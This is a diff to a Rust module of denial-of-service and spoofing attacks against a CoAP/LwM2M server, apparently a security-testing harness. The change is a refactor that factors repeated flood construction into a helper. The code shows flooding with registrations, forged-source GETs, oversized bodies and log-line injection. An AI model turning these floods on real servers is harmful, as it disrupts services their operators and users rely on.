@@ -1,7 +1,7 @@
 //! Attacks by datagrams without security.
 
 use crate::bodies::Uploader;
-use crate::flood::{Flood, From, Message, forged, sockets};
+use crate::flood::{Answers, Flood, From, Message, forged, sockets};
 use crate::server::Target;
 use crate::{Attack, Outcome, Sent};
 use lwm2m_coap::{Code, OptionNumber};
@@ -18,21 +18,25 @@ fn register(number: u32, endpoint: &str, lifetime: &str) -> Vec<u8> {
     message.query(lifetime).format(40).payload(b"</3/0>")
 }
 
+fn flood(
+    target: &Target,
+    from: From,
+    make: impl FnMut(u32) -> Vec<u8> + Send + 'static,
+    tell: impl FnMut(&Answers) -> Outcome<String> + Send + 'static,
+) -> Outcome<Box<dyn Attack>> {
+    Ok(Box::new(Flood::new(target.at.coap, from, Box::new(make), Box::new(tell))))
+}
+
 pub(crate) fn registers(target: &Target) -> Outcome<Box<dyn Attack>> {
     let make = |number: u32| register(number, &format!("{number:x}"), "lt=0");
     let tell = |answers: &_| Ok(format!("{answers}"));
-    Ok(Box::new(Flood::new(
-        target.at.coap,
-        From::Sockets(sockets(64)?),
-        Box::new(make),
-        Box::new(tell),
-    )))
+    flood(target, From::Sockets(sockets(64)?), make, tell)
 }
 
 pub(crate) fn addresses(target: &Target) -> Outcome<Box<dyn Attack>> {
     let make = |number: u32| Message::new(number as u16, Code::GET).payload(b"");
     let tell = |_: &_| Ok("one address each".to_owned());
-    Ok(Box::new(Flood::new(target.at.coap, From::Forged, Box::new(make), Box::new(tell))))
+    flood(target, From::Forged, make, tell)
 }
 
 pub(crate) fn fat_updates(target: &Target) -> Outcome<Box<dyn Attack>> {
@@ -58,7 +62,7 @@ pub(crate) fn fat_updates(target: &Target) -> Outcome<Box<dyn Attack>> {
         let _ = &stream;
         Ok(format!("{answers}"))
     };
-    Ok(Box::new(Flood::new(target.at.coap, From::Sockets(sockets), Box::new(make), Box::new(tell))))
+    flood(target, From::Sockets(sockets), make, tell)
 }
 
 pub(crate) fn bodies(target: &Target) -> Outcome<Box<dyn Attack>> {
@@ -67,12 +71,7 @@ pub(crate) fn bodies(target: &Target) -> Outcome<Box<dyn Attack>> {
         message.format(40).block(0, true).payload(&[b' '; 1024])
     };
     let tell = |answers: &_| Ok(format!("{answers}"));
-    Ok(Box::new(Flood::new(
-        target.at.coap,
-        From::Sockets(sockets(64)?),
-        Box::new(make),
-        Box::new(tell),
-    )))
+    flood(target, From::Sockets(sockets(64)?), make, tell)
 }
 
 pub(crate) fn log_lines(target: &Target) -> Outcome<Box<dyn Attack>> {
@@ -90,12 +89,7 @@ pub(crate) fn log_lines(target: &Target) -> Outcome<Box<dyn Attack>> {
         let forged = if forged { "A LINE WAS FORGED" } else { "no line forged" };
         Ok(format!("{} lines of log, {forged}", text.lines().count()))
     };
-    Ok(Box::new(Flood::new(
-        target.at.coap,
-        From::Sockets(sockets(64)?),
-        Box::new(make),
-        Box::new(tell),
-    )))
+    flood(target, From::Sockets(sockets(64)?), make, tell)
 }
 
 /// Sends each kind of request from an address that has proven nothing, and looks at the answer.
